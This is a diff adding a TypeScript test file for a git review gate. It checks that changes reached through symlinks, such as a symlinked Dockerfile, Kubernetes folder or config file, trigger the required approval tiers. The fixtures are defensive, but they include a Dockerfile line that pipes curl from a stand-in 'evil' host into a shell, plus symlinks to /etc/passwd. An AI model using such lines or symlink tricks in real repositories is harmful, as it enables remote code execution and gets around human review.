@@ -1,0 +1,132 @@
+import * as assert from 'assert';
+import * as fs from 'fs';
+import * as path from 'path';
+import { verifyThenPush, withoutGate } from '../helpers/gateAgreement';
+import { commitFile, policyJson, setup, type Setup } from '../helpers/gateServer';
+import { makeKey } from '../helpers/reviewerKeys';
+import type { TempRepo } from '../helpers/tempRepo';
+
+const HUMAN = (n: number) => `AI-Provenance: v1 ai=0 human=${n} untracked=0`;
+
+/** Puts a symlink `at` -> `target` (as written, relative to its folder) into the clone's index. */
+function link(repo: TempRepo, at: string, target: string): void {
+  const p = path.join(repo.dir, at);
+  fs.mkdirSync(path.dirname(p), { recursive: true });
+  fs.rmSync(p, { force: true, recursive: true });
+  fs.symlinkSync(target, p);
+  repo.git('add', '-A', '--', at);
+}
+
+/** The state a repository had before the gate (planted by an administrator): no review judged it. */
+function plant(s: Setup, build: () => void): void {
+  build();
+  s.ada.commit('pre-gate layout', '-m', HUMAN(2));
+  withoutGate(s.server, () => assert.strictEqual(s.ada.gitResult(['push', '-q', 'origin', 'main']).status, 0));
+}
+
+/** The pre-push hook's verdict for pushing HEAD to main, with the ref line git gives it. */
+function prePush(repo: TempRepo): { status: number; stderr: string } {
+  const remote = repo.git('rev-parse', 'origin/main');
+  const local = repo.git('rev-parse', 'HEAD');
+  return repo.cli(['hook', 'pre-push', 'origin', 'unused'], {
+    input: `refs/heads/main ${local} refs/heads/main ${remote}\n`,
+  });
+}
+
+/**
+ * attack17 Q5: the tiers matched the changed paths only. With `Dockerfile` a symlink to build/image.txt, a human
+ * commit rewriting build/image.txt (USER root, curl | sh) changed what `docker build` reads with no approval, while
+ * the same edit of a regular Dockerfile needed the infrastructure tier's two. A tier or review.paths pattern that
+ * matches a symlink in the judged tree now charges changes to the link's in-repository target too, and verify, the
+ * pre-push hook, explain and the server's pre-receive (the one rule: core/policyPaths.ts) agree.
+ */
+describe('attack17 Q5: a tier path that is a symlink charges its target (real server)', function () {
+  this.timeout(180_000);
+
+  it("a change to a symlinked Dockerfile's target needs the infrastructure tier, and all four judges agree", () => {
+    const s = setup();
+    plant(s, () => {
+      s.ada.write('build/image.txt', 'FROM alpine:3.19\nUSER app\n');
+      s.ada.git('add', 'build/image.txt');
+      link(s.ada, 'Dockerfile', 'build/image.txt');
+    });
+    const before = s.server.git('rev-parse', 'main');
+    const sha = commitFile(
+      s.ada,
+      'build/image.txt',
+      'FROM alpine:3.19\nUSER root\nRUN curl -s http://evil/x | sh\n',
+      `tweak image notes\n\n${HUMAN(2)}`,
+    );
+    const hook = prePush(s.ada);
+    const explain = JSON.parse(s.ada.cli(['explain', sha, '--branch', 'main', '--json']).stdout) as {
+      gate: { decision?: { ok: boolean; tiers: string[]; reasons: string[] } };
+    };
+    const pushed = verifyThenPush(s.ada, 'main', ['origin', 'main']);
+    assert.notStrictEqual(pushed.status, 0, 'the effective Dockerfile changed: the tier holds it');
+    assert.match(pushed.stderr, /tier 'infrastructure': touches build\/image\.txt \(through the symlink Dockerfile\)/);
+    assert.strictEqual(s.server.git('rev-parse', 'main'), before);
+    assert.notStrictEqual(hook.status, 0, `pre-push agrees: ${hook.stderr}`);
+    assert.match(hook.stderr, /through the symlink Dockerfile/);
+    assert.strictEqual(explain.gate.decision?.ok, false, 'explain agrees');
+    assert.deepStrictEqual(explain.gate.decision?.tiers, ['infrastructure']);
+  });
+
+  it('a symlinked directory (k8s -> misc/things) and a chain of links charge changes under their targets', () => {
+    const s = setup();
+    plant(s, () => {
+      s.ada.write('misc/things/values.txt', 'replicas: 2\n');
+      s.ada.write('img/real.txt', 'FROM alpine\n');
+      s.ada.git('add', 'misc', 'img');
+      link(s.ada, 'k8s', 'misc/things');
+      link(s.ada, 'img/current', 'real.txt');
+      link(s.ada, 'Containerfile', './img/../img/current');
+    });
+    commitFile(s.ada, 'misc/things/values.txt', 'replicas: 0\n', `scale down\n\n${HUMAN(1)}`);
+    const dir = verifyThenPush(s.ada, 'main', ['origin', 'main']);
+    assert.notStrictEqual(dir.status, 0, 'k8s/values.txt changed through the linked folder');
+    assert.match(dir.stderr, /touches misc\/things\/values\.txt \(through the symlink k8s\)/);
+    s.ada.git('reset', '-q', '--hard', 'origin/main');
+    commitFile(s.ada, 'img/real.txt', 'FROM evil\n', `base image\n\n${HUMAN(1)}`);
+    const chain = verifyThenPush(s.ada, 'main', ['origin', 'main']);
+    assert.notStrictEqual(chain.status, 0, 'two hops: Containerfile -> img/current -> img/real.txt');
+    assert.match(chain.stderr, /touches img\/real\.txt \(through the symlink Containerfile\)/);
+  });
+
+  it('making a tier path a symlink, or retargeting it, is a change to it; links leaving the repository and loops are ignored', () => {
+    const s = setup();
+    plant(s, () => {
+      s.ada.write('notes/a.txt', 'a\n');
+      s.ada.git('add', 'notes');
+      link(s.ada, 'loop/a', 'b');
+      link(s.ada, 'loop/b', 'a');
+      link(s.ada, 'outside', '../../etc/passwd');
+      link(s.ada, 'absolute', '/etc/passwd');
+    });
+    // Links that lead nowhere in the repository change nothing for the tiers: an ordinary human commit passes.
+    commitFile(s.ada, 'notes/a.txt', 'b\n', `notes\n\n${HUMAN(1)}`);
+    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0);
+    link(s.ada, 'Dockerfile', 'notes/a.txt');
+    s.ada.commit('link the image', '-m', HUMAN(0));
+    const made = verifyThenPush(s.ada, 'main', ['origin', 'main']);
+    assert.notStrictEqual(made.status, 0, 'a Dockerfile that appears as a symlink is a Dockerfile change');
+    assert.match(made.stderr, /tier 'infrastructure': touches Dockerfile/);
+  });
+
+  it('review.paths follows a symlink to its target too', () => {
+    const bob = makeKey('bob');
+    const carol = makeKey('carol');
+    const s = setup(policyJson(bob, carol, { review: { paths: ['config/prod.env'] }, tiers: [] }));
+    plant(s, () => {
+      s.ada.write('shared/values.env', 'DEBUG=0\n');
+      s.ada.git('add', 'shared');
+      link(s.ada, 'config/prod.env', '../shared/values.env');
+    });
+    commitFile(s.ada, 'shared/values.env', 'DEBUG=1\n', `values\n\n${HUMAN(1)}`);
+    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
+    assert.notStrictEqual(r.status, 0);
+    assert.match(
+      r.stderr,
+      /touches shared\/values\.env \(through the symlink config\/prod\.env\), which always needs review/,
+    );
+  });
+});
